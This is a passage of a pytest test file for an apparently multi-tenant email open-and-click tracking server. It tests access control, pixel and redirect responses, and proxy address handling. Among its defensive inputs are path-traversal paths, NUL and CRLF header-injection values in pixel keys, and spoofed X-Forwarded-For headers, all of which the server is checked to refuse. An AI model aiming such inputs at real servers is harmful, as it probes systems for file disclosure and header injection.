"""What the server answers, seen through WSGI: who may see what, pixels, the dashboard, numbers, exports, health.

Every request goes through wsgiref's validator (PEP 3333), is read to its end and closed.
"""

from __future__ import annotations

import contextlib
import csv
import fcntl
import hashlib
import io
import itertools
import json
import os
import re
import sqlite3
import time
import zoneinfo
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from datetime import date, datetime, timedelta, timezone
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote_to_bytes
from wsgiref.util import setup_testing_defaults
from wsgiref.validate import validator

import pytest
import webtest
from conftest import BASE, CHROME, NOW, Stage, click, hit, make_stage, segment

import tracker

OPERATOR_KEY = "the-operators-own-key"
ACME_KEY = "the-key-that-acme-has"
GLOBEX_KEY = "the-key-that-globex-has"
APPLE = "Mozilla/5.0"
DAY = 86_400_000
DELIVERED_AT = tracker.iso_time(NOW - 1_000)


@dataclass(frozen=True)
class Answer:
    """A response, read to its end."""

    status: int
    headers: list[tuple[str, str]]
    body: bytes
    errors: str  # what was written to wsgi.errors

    def __getitem__(self, name: str) -> str:
        (value,) = [value for each, value in self.headers if each.lower() == name.lower()]
        return value

    def __contains__(self, name: str) -> bool:
        return any(each.lower() == name.lower() for each, _ in self.headers)

    @property
    def text(self) -> str:
        return self.body.decode()

    @property
    def json(self) -> Any:
        return json.loads(self.body)


def environ_of(
    method: str, target: str, body: bytes = b"", headers: Mapping[str, str] | None = None, **more: Any
) -> dict[str, Any]:
    """A WSGI environment as gunicorn makes it; headers by their names, in latin-1 as PEP 3333 wants them."""
    path, _, query = target.partition("?")
    environ: dict[str, Any] = {
        "REQUEST_METHOD": method,
        "SCRIPT_NAME": "",
        "PATH_INFO": unquote_to_bytes(path).decode("latin-1"),
        "QUERY_STRING": query,
        "RAW_URI": target,
        "REMOTE_ADDR": "192.0.2.9",
        "HTTP_HOST": "track.example.com",
        "wsgi.input": io.BytesIO(body),
        "wsgi.errors": io.StringIO(),
    }
    if body:
        environ["CONTENT_LENGTH"] = str(len(body))
    for name, value in (headers or {}).items():
        environ["HTTP_" + name.upper().replace("-", "_")] = value
    environ.update(more)
    setup_testing_defaults(environ)
    return environ


def call(
    stage: Stage,
    method: str,
    target: str,
    body: bytes = b"",
    headers: Mapping[str, str] | None = None,
    unforeseen: bool = False,
    **more: Any,
) -> Answer:
    """One request; unless it is announced, nothing unforeseen may have happened."""
    environ = environ_of(method, target, body, headers, **more)
    log: io.StringIO = environ["wsgi.errors"]  # before the validator puts its own in its place
    started: list[tuple[str, list[tuple[str, str]]]] = []

    def start_response(status: str, response_headers: list[tuple[str, str]], exc_info: Any = None) -> Any:
        started.append((status, response_headers))
        return lambda data: None

    parts = validator(tracker.wsgi(stage.app))(environ, start_response)
    try:
        read = b"".join(parts)
    finally:
        parts.close()  # type: ignore[attr-defined]
    ((status, sent_headers),) = started
    assert unforeseen or log.getvalue() == ""
    return Answer(int(status.split()[0]), sent_headers, read, log.getvalue())


def get(stage: Stage, target: str, headers: Mapping[str, str] | None = None, **more: Any) -> Answer:
    return call(stage, "GET", target, headers=headers, **more)


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def register(stage: Stage, tenant: tracker.Tenant, *emails: tracker.Registration, at: int | None = None) -> None:
    """Register emails as the API does, at a time of the test's choice."""
    with stage.database.transaction() as connection:
        tracker.register_emails(connection, tenant.number, emails, tracker.now_ms() if at is None else at)


def spooled(stage: Stage) -> list[dict[str, Any]]:
    """The hits that wait in the spool, in order."""
    lines = b"".join(path.read_bytes() for path in sorted(stage.spool.glob("*.jsonl")))
    return [json.loads(line) for line in lines.splitlines()]


def add_one_id(stage: Stage, id_: str = "abc123") -> tracker.Tenant:
    """A tenant whose mail id opens its dashboard."""
    with tracker.changing_tenants(stage.database) as connection:
        tenant = tracker.add_tenant(connection, "One", NOW, id_=id_)
    stage.refresh()
    return tenant


@contextlib.contextmanager
def database_away(stage: Stage) -> Iterator[None]:
    """The database file under another name for a while."""
    path = stage.folder / "tracking.db"
    path.rename(stage.folder / "away.db")
    yield
    assert not path.exists(), "somebody made a new database"
    (stage.folder / "away.db").rename(path)


@pytest.fixture(scope="module")
def still(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    """A stage that is asked for what it refuses, and so stays as it is: one for all such questions."""
    made = make_stage(tmp_path_factory.mktemp("still"))
    yield made
    made.app.close()


# -- Who may see what: the access column of the routes

# How every route is called: its body, and after the pattern a query. Captures are filled in by target_of.
CALLS: dict[tuple[str, str], tuple[str, bytes]] = {
    ("GET", "/{mail_id}/pixel/{key}.gif"): ("", b""),
    ("GET", "/{mail_id}/click/{key}/{signature}/{target}"): ("", b""),
    ("GET", "/{mail_id}/click/{key}"): ("?url=https%3A%2F%2Facme.com%2F", b""),
    ("GET", "/health"): ("", b""),
    ("GET", "/assets/{name}"): ("", b""),
    ("GET", "/robots.txt"): ("", b""),
    ("GET", "/favicon.ico"): ("", b""),
    ("GET", "/"): ("", b""),
    ("GET", "/{id}/dashboard"): ("", b""),
    ("GET", "/{id}/stats.json"): ("", b""),
    ("GET", "/{id}/emails.json"): ("", b""),
    ("GET", "/{id}/emails.csv"): ("", b""),
    ("GET", "/{id}/events.json"): ("", b""),
    ("GET", "/{id}/events.csv"): ("", b""),
    ("GET", "/{id}/links.json"): ("", b""),
    ("GET", "/{id}/links.csv"): ("", b""),
    ("GET", "/{id}/campaigns.json"): ("", b""),
    ("GET", "/{id}/campaigns.csv"): ("", b""),
    ("GET", "/{id}/clients.json"): ("", b""),
    ("GET", "/{id}/clients.csv"): ("", b""),
    ("GET", "/{id}/campaigns/{campaign}"): ("", b""),
    ("GET", "/{id}/emails/{key}"): ("", b""),
    ("POST", "/{id}/emails"): ("", b'{"key": "new", "subject": "Written by a test"}'),
    ("POST", "/{id}/messages"): ("", b'Content-Type: text/html\r\n\r\n<a href="https://acme.com/">shop</a>'),
    ("POST", "/{id}/campaigns"): ("", b'{"campaign": "spring", "sent": 10}'),
    # Delivered a second before the click of the cast, which so becomes a scanner's: its roll-ups change too.
    ("PATCH", "/{id}/emails/{key}"): ("", json.dumps({"subject": "Said later", "delivered_at": DELIVERED_AT}).encode()),
    ("DELETE", "/{id}/emails/{key}"): ("", b""),
    ("POST", "/tenants"): ("", b'{"name": "Initech", "id": "initech"}'),
}
OBJECTS = {"key", "campaign"}  # captures that name something of a tenant's


def routes(*access: str) -> list[Any]:
    found = [route for route in tracker.ROUTES if not access or route.access in access]
    return [pytest.param(route, id=f"{route.method} {route.pattern}") for route in found]


def target_of(stage: Stage, route: tracker.Route, tenant: tracker.Tenant, **instead: str) -> str:
    """A request target that this route answers for a tenant, whose email has the key mail-of-NAME."""
    if (route.method, route.pattern) not in CALLS:
        pytest.fail(f"{route.method} {route.pattern} is new: say in CALLS how to call it, and whom it must refuse")
    link = tracker.encode_target("https://acme.com/")
    captures = {
        "id": tenant.id,
        "mail_id": tenant.mail_id,
        "key": f"mail-of-{tenant.name.lower()}",
        "campaign": f"campaign-of-{tenant.name.lower()}",
        "name": stage.app.pages.stylesheet_name,
        "target": link,
        "signature": tracker.sign(stage.app.secrets[0], tenant.mail_id, link),
        **instead,
    }
    return route.pattern.format(**captures) + CALLS[route.method, route.pattern][0]


def use(
    stage: Stage,
    route: tracker.Route,
    tenant: tracker.Tenant,
    headers: Mapping[str, str] | None = None,
    host: str = "track.example.com",
    **instead: str,
) -> Answer:
    """Call a route for a tenant."""
    target = target_of(stage, route, tenant, **instead)
    return call(stage, route.method, target, CALLS[route.method, route.pattern][1], headers, HTTP_HOST=host)


def cast(stage: Stage) -> Stage:
    """One email each, with an open and a click that are in the database."""
    for tenant in (stage.acme, stage.globex):
        key = f"mail-of-{tenant.name.lower()}"
        said = (f"Subject of {tenant.name}", f"reader@{tenant.name}.example", f"campaign-of-{tenant.name.lower()}")
        register(stage, tenant, tracker.Registration(key, *said))
        opened = hit(stage, key, uri=f"/{tenant.mail_id}/pixel/{key}.gif")
        clicked = hit(stage, key, uri=f"/{tenant.mail_id}/click/{key}?url=https://{tenant.name}.example/", answer="302")
        segment(stage, opened, clicked)
    stage.drain()
    return stage


def everything_of(stage: Stage, tenant: tracker.Tenant) -> list[list[tuple[Any, ...]]]:
    """All rows that belong to a tenant."""
    tables = ("emails", "events", "uniques", "reasons", "cohorts", "campaigns", "links", "urls", "tenant_rules",
             )  # fmt: skip
    rows = (stage.rows(f"select * from {table} where tenant = ?", tenant.number) for table in tables)
    owned = [sorted(each, key=repr) for each in rows]
    return [*owned, stage.rows("select * from tenants where number = ?", tenant.number)]


def everything(stage: Stage) -> list[list[list[tuple[Any, ...]]]]:
    return [everything_of(stage, tenant) for tenant in (stage.acme, stage.globex)]


def assert_private(answer: Answer) -> None:
    """The headers that keep a private page private."""
    assert answer["Referrer-Policy"] == "no-referrer"
    assert answer["X-Robots-Tag"] == "noindex"
    assert answer["Cache-Control"] == "no-store"
    assert answer["X-Content-Type-Options"] == "nosniff"
    policy = answer["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy
    assert "unsafe-" not in policy


def assert_error(answer: Answer, status: int) -> str:
    """The answer is this error, with private headers and a sentence; returns the sentence."""
    assert answer.status == status, answer.text
    assert_private(answer)
    if answer["Content-Type"].startswith("application/json"):
        assert list(answer.json) == ["error"]
        return str(answer.json["error"])
    assert answer["Content-Type"] == "text/html; charset=utf-8"
    return parse(answer).text


def test_every_route_is_known_to_these_tests() -> None:
    assert {(route.method, route.pattern) for route in tracker.ROUTES} == set(CALLS)
    assert {route.access for route in tracker.ROUTES} == {
        tracker.ANYONE,
        tracker.READER,
        tracker.WRITER,
        tracker.OPERATOR,
    }


@pytest.mark.parametrize("route", routes())
def test_a_route_without_an_id_in_its_path_is_public_or_the_operators(route: tracker.Route) -> None:
    private = route.access in (tracker.READER, tracker.WRITER)
    assert private == route.pattern.startswith("/{id}/")


@pytest.mark.parametrize("route", routes(tracker.READER, tracker.WRITER))
def test_who_has_the_dashboard_id_is_let_in(stage: Stage, route: tracker.Route) -> None:
    answer = use(cast(stage), route, stage.acme)
    assert answer.status in (200, 201)
    assert_private(answer)


@pytest.mark.parametrize("route", routes(tracker.READER, tracker.WRITER))
def test_a_stranger_without_the_dashboard_id_finds_nothing(stage: Stage, route: tracker.Route) -> None:
    before = everything(cast(stage))
    acme = stage.acme
    # The second is what every recipient knows: the id that stands in mail.
    for id_ in ("nobody", acme.mail_id, acme.id[:-1], acme.id + "x", acme.id.swapcase(), "Acme", "*", "%25", "%00"):
        answer = use(stage, route, acme, id=id_)
        assert "nothing at this address" in assert_error(answer, 404)
    assert everything(stage) == before


@pytest.mark.parametrize("route", routes(tracker.READER, tracker.WRITER))
def test_the_operators_key_does_not_replace_the_dashboard_id(
    staged: Callable[..., Stage], route: tracker.Route
) -> None:
    stage = cast(staged(API_KEY=OPERATOR_KEY))
    assert_error(use(stage, route, stage.acme, bearer(OPERATOR_KEY), id=stage.acme.mail_id), 404)


OWNED = [
    route
    for route in tracker.ROUTES
    if route.access in (tracker.READER, tracker.WRITER) and OBJECTS & set(re.findall(r"{(\w+)}", route.pattern))
]


@pytest.mark.parametrize("route", OWNED, ids=lambda route: f"{route.method} {route.pattern}")
def test_another_tenants_email_is_not_there_and_stays_as_it_is(stage: Stage, route: tracker.Route) -> None:
    before = everything(cast(stage))
    for tenant, name in ((stage.acme, "globex"), (stage.globex, "acme"), (stage.acme, "nobody")):
        assert_error(use(stage, route, tenant, key=f"mail-of-{name}", campaign=f"campaign-of-{name}"), 404)
    assert everything(stage) == before


@pytest.mark.parametrize("route", routes(tracker.WRITER))
def test_what_one_tenant_writes_changes_nothing_of_anothers(stage: Stage, route: tracker.Route) -> None:
    # Both have an email with the same key: it is a key inside its tenant.
    register(cast(stage), stage.globex, tracker.Registration("new", "Globex"), tracker.Registration("mail-of-acme"))
    before = everything_of(stage, stage.globex)
    assert use(stage, route, stage.acme).status in (200, 201)
    assert everything_of(stage, stage.globex) == before
    assert stage.check() == []


@pytest.mark.parametrize("route", routes(tracker.READER))
def test_a_tenant_sees_nothing_of_another(stage: Stage, route: tracker.Route) -> None:
    answer = use(cast(stage), route, stage.acme)
    assert b"globex" not in answer.body.lower()
    assert stage.globex.id.encode() not in answer.body
    # A cursor that another tenant's export gave out opens nothing either.
    ((at, number),) = stage.rows("select at, id from events where tenant = 2 and type = 2")
    after = get(stage, target_of(stage, route, stage.acme) + f"?after={at + 1}-{number + 1}")
    assert b"globex" not in after.body.lower()


@pytest.mark.parametrize("route", routes(tracker.WRITER))
def test_writing_needs_the_tenants_key_once_there_is_one(staged: Callable[..., Stage], route: tracker.Route) -> None:
    stage = cast(staged(API_KEY=OPERATOR_KEY))
    stage.change(stage.acme, api_key_hash=tracker.key_hash(ACME_KEY))
    stage.change(stage.globex, api_key_hash=tracker.key_hash(GLOBEX_KEY))
    before = everything(stage)
    wrong = [
        {},
        bearer("not-this-one"),
        bearer(GLOBEX_KEY),
        bearer(""),
        bearer(ACME_KEY + "x"),
        bearer(ACME_KEY.upper()),
        bearer(tracker.key_hash(ACME_KEY)),  # what stands in the database is no key
        bearer("\xe9\xff"),
        {"Authorization": ACME_KEY},
        {"Authorization": f"Basic {ACME_KEY}"},
        {"X-Api-Key": ACME_KEY},
    ]
    for headers in wrong:
        answer = use(stage, route, stage.acme, headers)
        assert "API key" in assert_error(answer, 401)
        assert answer["WWW-Authenticate"] == "Bearer"
    assert everything(stage) == before
    assert use(stage, route, stage.acme, {"Authorization": f"bearer  {ACME_KEY}"}).status in (200, 201)
    register(stage, stage.acme, tracker.Registration("mail-of-acme"))
    assert use(stage, route, stage.acme, bearer(OPERATOR_KEY)).status in (200, 201)


@pytest.mark.parametrize("route", routes(tracker.READER))
def test_reading_needs_no_key(stage: Stage, route: tracker.Route) -> None:
    stage.change(cast(stage).acme, api_key_hash=tracker.key_hash(ACME_KEY))
    assert use(stage, route, stage.acme).status == 200


@pytest.mark.parametrize("route", routes(tracker.WRITER))
def test_a_tenant_with_one_id_needs_a_key_to_write(staged: Callable[..., Stage], route: tracker.Route) -> None:
    stage = staged(API_KEY=OPERATOR_KEY)
    one = add_one_id(stage)
    register(stage, one, tracker.Registration("mail-of-one"))
    before = everything_of(stage, one)
    for headers in ({}, bearer("any"), bearer("")):
        assert "tenant key" in assert_error(use(stage, route, one, headers), 403)  # the command that makes a key
    assert everything_of(stage, one) == before
    assert use(stage, route, one, bearer(OPERATOR_KEY)).status in (200, 201)
    register(stage, one, tracker.Registration("mail-of-one"))
    stage.change(one, api_key_hash=tracker.key_hash(ACME_KEY))
    assert use(stage, route, one)["WWW-Authenticate"] == "Bearer"
    assert_error(use(stage, route, one, bearer("wrong")), 401)
    assert use(stage, route, one, bearer(ACME_KEY)).status in (200, 201)


@pytest.mark.parametrize("route", routes(tracker.OPERATOR))
def test_without_api_key_the_operators_routes_do_not_exist(stage: Stage, route: tracker.Route) -> None:
    stage.change(stage.acme, api_key_hash=tracker.key_hash(ACME_KEY))
    before = stage.rows("select * from tenants")
    for headers in ({}, bearer(""), bearer("None"), bearer(ACME_KEY)):
        assert_error(use(stage, route, stage.acme, headers), 404)
    assert stage.rows("select * from tenants") == before


@pytest.mark.parametrize("route", routes(tracker.OPERATOR))
def test_the_operators_routes_take_the_operators_key_only(staged: Callable[..., Stage], route: tracker.Route) -> None:
    stage = staged(API_KEY=OPERATOR_KEY)
    stage.change(stage.acme, api_key_hash=tracker.key_hash(ACME_KEY))
    before = stage.rows("select * from tenants")
    for headers in ({}, bearer("wrong"), bearer(ACME_KEY), bearer("\xe9"), {"Authorization": f"Basic {OPERATOR_KEY}"}):
        answer = use(stage, route, stage.acme, headers)
        assert_error(answer, 401)
        assert answer["WWW-Authenticate"] == "Bearer"
    assert stage.rows("select * from tenants") == before
    answer = use(stage, route, stage.acme, bearer(OPERATOR_KEY))
    assert answer.status == 201
    assert_private(answer)


@pytest.mark.parametrize("route", routes(tracker.READER, tracker.WRITER))
def test_private_pages_answer_on_ones_own_tracking_host_and_not_on_anothers(stage: Stage, route: tracker.Route) -> None:
    stage.change(cast(stage).acme, tracking_host="mail.acme.com")
    stage.change(stage.globex, tracking_host="mail.globex.com")
    before = everything(stage)
    # One origin for two tenants' pages would let one read the other's, were a page ever to run a script.
    for host in ("mail.globex.com", "MAIL.GLOBEX.COM", "mail.globex.com.", "mail.globex.com:443"):
        assert_error(use(stage, route, stage.acme, host=host), 404)
    assert everything(stage) == before
    for host in ("mail.acme.com", "mail.acme.com:443", "track.example.com"):
        register(stage, stage.acme, tracker.Registration("mail-of-acme"))
        assert use(stage, route, stage.acme, host=host).status in (200, 201)


# -- Methods and paths

GET_ROUTES = [param for param in routes() if param.values[0].method == "GET"]


@pytest.mark.parametrize("route", GET_ROUTES)
def test_head_is_answered_like_get_without_a_body(stage: Stage, route: tracker.Route) -> None:
    target = target_of(cast(stage), route, stage.acme)
    more = ("&" if "?" in target else "?") + "range=x&limit=x&after=x"  # what a route that knows it refuses
    for each in (target, target.replace(stage.acme.id, "nobody"), target + more):
        got, head = get(stage, each), call(stage, "HEAD", each)
        assert (head.status, head.headers) == (got.status, got.headers)
        assert head.body == b""
        if "Content-Length" in got:
            assert int(got["Content-Length"]) == len(got.body)
    assert get(stage, target).status in (200, 302)  # a HEAD of an export has let go of its lock


@pytest.mark.parametrize("route", routes())
def test_another_method_is_refused_and_the_right_ones_named(stage: Stage, route: tracker.Route) -> None:
    before = everything(cast(stage))
    target = target_of(stage, route, stage.acme)
    allowed = {each.method for each in tracker.ROUTES if each.pattern == route.pattern}
    allowed |= {"HEAD"} if "GET" in allowed else set()
    for method in {"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE"} - allowed:
        answer = call(stage, method, target, b"{}")
        assert answer.status == 405
        assert set(answer["Allow"].split(", ")) == allowed
        assert_private(answer)
    assert everything(stage) == before


@pytest.mark.parametrize(
    "path",
    ["/nothing", "//", "/health/", "//health", "/Health", "/%2Fhealth", "/%2568ealth", "/health%00", "/health%0A",
     "/assets/", "/assets/style.css", "/assets/..%2Ftracker.py", "/assets/../tracker.py", "/{id}", "/{id}/",
     "/{id}/dashboard/", "/{id}//dashboard", "/./{id}/dashboard", "/{id}/../{id}/dashboard", "/{id}/Dashboard",
     "/{id}%2Fdashboard", "/{id}/dashboard%00", "/{id}/emails.xml", "/{id}/tenants.json", "/{mail_id}/pixel/a.png",
     "/{mail_id}/pixel/", "/{mail_id}/pixel/a/b.gif", "/{mail_id}/click", "/{mail_id}/click/", "/{mail_id}/click//",
     "/{mail_id}/click/a/b", "//pixel/a.gif", "/{mail_id}%2Fpixel%2Fa.gif"],
)  # fmt: skip
def test_an_unknown_path_is_a_404(still: Stage, path: str) -> None:
    target = path.format(id=still.acme.id, mail_id=still.acme.mail_id)
    assert get(still, target).status == 404
    assert call(still, "POST", target, b"{}").status in (404, 405)  # 405 where a GET might find something
    assert spooled(still) == []


def test_a_path_is_decoded_once(stage: Stage) -> None:
    assert get(stage, "/%68ealth").status == 200
    assert get(stage, f"/{stage.acme.mail_id}/pix%65l/a%2Bb.gif")["X-Tracker"] == "recorded"
    stage.drain()
    assert stage.rows("select key from emails") == [("a+b",)]


# -- Pixels


def is_transparent_pixel(gif: bytes) -> bool:
    """A whole GIF89a of one pixel, and that pixel transparent (gif89a specification, §18, §20, §23, §27)."""
    size = int.from_bytes(gif[6:8], "little"), int.from_bytes(gif[8:10], "little")
    colours = 3 * 2 ** ((gif[10] & 7) + 1) if gif[10] & 0x80 else 0
    control = gif[13 + colours :]
    return (
        gif[:6] == b"GIF89a"
        and size == (1, 1)
        and control[:3] == b"\x21\xf9\x04"
        and control[3] & 1 == 1
        and control[7:9] == b"\x00\x2c"
        and gif[-1:] == b"\x3b"
    )


PIXELS = [
    pytest.param("/{mail_id}/pixel/e1.gif", "track.example.com", "recorded", True, id="known"),
    pytest.param("/{mail_id}/pixel/e1.gif?cache=123&x=%0d%0a", "other.example", "recorded", True, id="any host"),
    pytest.param("/{mail_id}/pixel/.gif", "", "bad key", False, id="no key"),
    pytest.param("/{mail_id}/pixel/%2e%2e.gif", "", "bad key", False, id="dots"),
    pytest.param("/{mail_id}/pixel/a%2Fb.gif", "", "bad key", False, id="slash"),
    pytest.param("/{mail_id}/pixel/a%00b.gif", "", "bad key", False, id="NUL"),
    pytest.param("/{mail_id}/pixel/%0d%0aX-Evil:1.gif", "", "bad key", False, id="line break"),
    pytest.param("/{mail_id}/pixel/%FF.gif", "", "bad key", False, id="not UTF-8"),
    pytest.param("/{mail_id}/pixel/" + "k" * 201 + ".gif", "", "bad key", False, id="too long"),
    pytest.param("/nobody/pixel/e1.gif", "track.example.com", "unknown tenant", True, id="unknown tenant"),
    pytest.param("/{id}/pixel/e1.gif", "track.example.com", "unknown tenant", True, id="dashboard id"),
    pytest.param("/{mail_id}/pixel/e1.gif", "mail.globex.com", "wrong host", False, id="another's host"),
    pytest.param("/{globex}/pixel/e1.gif", "mail.globex.com", "recorded", True, id="one's own host"),
]


@pytest.mark.parametrize(("path", "host", "note", "waits"), PIXELS)
def test_a_pixel_is_always_the_gif_and_says_what_became_of_the_hit(
    stage: Stage, path: str, host: str, note: str, waits: bool
) -> None:
    stage.change(stage.globex, tracking_host="mail.globex.com")
    target = path.format(id=stage.acme.id, mail_id=stage.acme.mail_id, globex=stage.globex.mail_id)
    answer = get(stage, target, HTTP_HOST=host)
    assert answer.status == 200
    assert len(answer.body) == 43
    assert is_transparent_pixel(answer.body)
    assert answer["Content-Type"] == "image/gif"
    assert answer["Content-Length"] == "43"
    assert answer["Cache-Control"] == "no-store, no-cache, max-age=0, must-revalidate, private"
    assert answer["X-Tracker"] == note
    assert [line["uri"] for line in spooled(stage)] == [target] * waits


def test_hits_for_unknown_mail_ids_are_recorded_at_most_100_a_second_and_all_answered(stage: Stage) -> None:
    began = time.monotonic()
    for n in range(250):
        assert get(stage, f"/nobody{n}/pixel/e1.gif")["X-Tracker"] == "unknown tenant"
    assert get(stage, "/nobody/click/e1?url=https://acme.com/").status == 404
    seconds = int(time.monotonic()) - int(began) + 1
    assert 100 <= len(spooled(stage)) <= 100 * seconds
    known = len(spooled(stage))
    for n in range(120):
        assert stage.pixel(f"e{n}").headers["X-Tracker"] == "recorded"  # those of tenants are not held up by a flood
    assert len(spooled(stage)) == known + 120


def test_a_hit_with_the_dashboard_id_is_answered_not_counted_and_warned_of(stage: Stage) -> None:
    old = stage.acme.id
    warning = "id stands in mail"
    assert warning not in get(stage, f"/{old}/dashboard").text
    assert get(stage, f"/{old}/pixel/e1.gif").status == 200
    assert get(stage, f"/{old}/click/e1?url=https://acme.com/").status == 404
    stage.drain()
    assert stage.rows("select * from emails") == []
    assert stage.rows("select reason, hits from dropped where tenant = ?", stage.acme.number) == [("dashboard-id", 2)]
    page = parse(get(stage, f"/{old}/dashboard"))
    (notice,) = [text for text in page.notices if warning in text]
    assert f"tenant rotate {stage.acme.mail_id}" in notice
    assert warning not in get(stage, f"/{stage.globex.id}/dashboard").text


def test_after_rotate_the_old_dashboard_id_is_nobodys(stage: Stage, capsys: pytest.CaptureFixture[str]) -> None:
    old = stage.acme.id
    get(stage, f"/{old}/pixel/e1.gif")
    stage.drain()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("DATABASE_URL", f"sqlite:{stage.settings.database}")
        assert tracker.main(["--env", os.devnull, "tenant", "rotate", stage.acme.mail_id, "--json"]) == 0
    new = json.loads(capsys.readouterr().out)["id"]
    assert get(stage, f"/{old}/dashboard").status == 404
    get(stage, f"/{old}/pixel/e2.gif")
    stage.drain()
    page = parse(get(stage, f"/{new}/dashboard"))
    assert page.notices == [] and NO_EMAILS in page.text
    assert stage.pixel("e3").headers["X-Tracker"] == "recorded"  # mail already sent goes on counting


NO_EMAILS = "No emails yet. Register one by POST, or send mail with a pixel: it appears here with its first hit."


def hits_of_all_kinds(stage: Stage) -> None:
    """A pixel, a signed link and a plain link, all answered as ever."""
    mail_id, secret = stage.acme.mail_id, stage.app.secrets[0]
    assert stage.pixel("e1").headers["X-Tracker"] == "recorded"
    for link in (
        tracker.click_path(secret, mail_id, "e1", "https://anywhere.example/"),
        f"/{mail_id}/click/e1?url=https%3A%2F%2Facme.com%2F",
    ):
        answer = get(stage, link, headers={"User-Agent": CHROME})
        assert answer.status == 302
        assert answer["Cache-Control"] == "no-store"
        assert answer["X-Robots-Tag"] == "noindex"
    assert [line["answer"] for line in spooled(stage)] == ["pixel", "302", "302"]


def test_a_hit_opens_no_database(stage: Stage) -> None:
    with database_away(stage):
        hits_of_all_kinds(stage)
    assert stage.drain().hits == 3
    assert stage.check() == []


def test_a_hit_waits_for_no_lock_of_the_database(stage: Stage) -> None:
    locker = sqlite3.connect(stage.folder / "tracking.db", isolation_level=None)
    with contextlib.closing(locker):
        locker.execute("pragma locking_mode = exclusive")
        locker.execute("begin exclusive")
        locker.execute("update tenants set name = name")
        other = sqlite3.connect(stage.folder / "tracking.db", timeout=0)
        with contextlib.closing(other), pytest.raises(sqlite3.OperationalError, match="locked"):
            other.execute("select * from tenants")  # so nobody can even read
        hits_of_all_kinds(stage)
        locker.execute("rollback")
    assert stage.drain().hits == 3


def test_a_new_app_answers_hits_without_a_database_too(stage: Stage) -> None:
    with database_away(stage):
        app = tracker.App(stage.settings)
        fresh = Stage(stage.settings, app, stage.acme, stage.globex, webtest.TestApp(tracker.wsgi(app)))
        hits_of_all_kinds(fresh)
        app.close()
    assert stage.drain().hits == 3


def test_without_its_database_a_private_page_is_a_503_that_tells_no_path(
    stage: Stage, capsys: pytest.CaptureFixture[str]
) -> None:
    for connected in (False, True):  # a database that is removed under an open connection is as gone as any other
        with database_away(stage):
            for route in tracker.ROUTES:
                if route.access in (tracker.READER, tracker.WRITER):
                    answer = use(stage, route, stage.acme)
                    assert "Hits are recorded all the same" in assert_error(answer, 503)
                    assert int(answer["Retry-After"]) > 0
                    assert str(stage.folder) not in answer.text
        assert stage.acme.id not in capsys.readouterr().out
        assert connected or get(stage, f"/{stage.acme.id}/stats.json").status == 200


# -- Tracking hosts


def test_links_of_a_tenant_work_on_its_tracking_host_and_on_the_servers_own(stage: Stage) -> None:
    stage.change(stage.acme, tracking_host="mail.acme.com")
    stage.change(stage.globex, tracking_host="mail.globex.com")
    mail_id = stage.acme.mail_id
    signed = tracker.click_path(stage.app.secrets[0], mail_id, "e1", "https://anywhere.example/")
    plain = f"/{mail_id}/click/e1?url=https%3A%2F%2Fwww.acme.com%2F"
    for host in ("mail.acme.com", "Mail.Acme.com:8443", "track.example.com", "127.0.0.1:3000"):
        assert get(stage, signed, HTTP_HOST=host)["Location"] == "https://anywhere.example/"
    for path in (signed, plain):
        assert get(stage, path, HTTP_HOST="mail.globex.com").status == 404
        assert get(stage, path, HTTP_HOST="MAIL.globex.com.:80").status == 404
    assert len(spooled(stage)) == 4  # a click on another tenant's host is not counted


def test_the_drain_counts_no_hit_on_another_tenants_host(stage: Stage) -> None:
    # nginx answers pixels by itself and writes such lines without asking whose host it is.
    stage.change(stage.globex, tracking_host="mail.globex.com")
    segment(stage, hit(stage, "e1", host="Mail.Globex.com:443"), hit(stage, "e2", host="mail.acme.com"))
    stage.drain()
    assert stage.rows("select key from emails") == [("e2",)]
    assert stage.rows("select reason, hits from dropped") == [("wrong-host", 1)]


def test_a_link_that_leads_back_to_the_server_is_refused(stage: Stage) -> None:
    stage.change(stage.globex, tracking_host="mail.globex.com")
    for target in ("https://track.example.com/", "http://mail.globex.com/x", "https://here.example/", "//x"):
        path = f"/{stage.globex.mail_id}/click/e1?url={target}"
        assert get(stage, path, HTTP_HOST="here.example").status == 400
    assert spooled(stage) == []


# -- Addresses: what is believed of X-Forwarded-For, and what is kept

LOCAL, TEN, ANYONE = "127.0.0.1,::1", "10.0.0.0/8", "*"
ADDRESSES = [
    pytest.param(LOCAL, "198.51.100.7", None, "198.51.100.7", id="no proxy"),
    pytest.param(LOCAL, "198.51.100.7", "203.0.113.77", "198.51.100.7", id="not a proxy of ours"),
    pytest.param(LOCAL, "127.0.0.1", None, "127.0.0.1", id="a proxy that says nothing"),
    pytest.param(LOCAL, "127.0.0.1", "203.0.113.77", "203.0.113.77", id="our proxy"),
    pytest.param(LOCAL, "127.0.0.1", "6.6.6.6, 203.0.113.77", "203.0.113.77", id="made up on the left"),
    pytest.param(LOCAL, "127.0.0.1", "127.0.0.1, 203.0.113.77", "203.0.113.77", id="a proxy made up on the left"),
    pytest.param(LOCAL, "::1", "6.6.6.6,203.0.113.77", "203.0.113.77", id="IPv6 loopback"),
    pytest.param(LOCAL, "::ffff:127.0.0.1", "203.0.113.77", "203.0.113.77", id="mapped loopback"),
    pytest.param(TEN, "10.0.0.1", "6.6.6.6, 203.0.113.77, 10.2.3.4", "203.0.113.77", id="two proxies"),
    pytest.param(TEN, "10.0.0.1", "10.9.9.9, 10.1.1.1", "10.9.9.9", id="proxies only"),
    pytest.param(TEN, "127.0.0.1", "203.0.113.77", "127.0.0.1", id="loopback is not on the list"),
    pytest.param(LOCAL, "127.0.0.1", "203.0.113.77:4711", "203.0.113.77", id="port"),
    pytest.param(LOCAL, "127.0.0.1", "[2001:db8:1:2::5]:443", "2001:db8:1:2::5", id="IPv6 with port"),
    pytest.param(LOCAL, "127.0.0.1", "2001:DB8:1:2:0:0:0:5", "2001:db8:1:2::5", id="IPv6"),
    pytest.param(LOCAL, "127.0.0.1", "::ffff:203.0.113.77", "203.0.113.77", id="IPv4 in IPv6"),
    pytest.param(LOCAL, "127.0.0.1", "203.0.113.77, , ", "203.0.113.77", id="empty entries"),
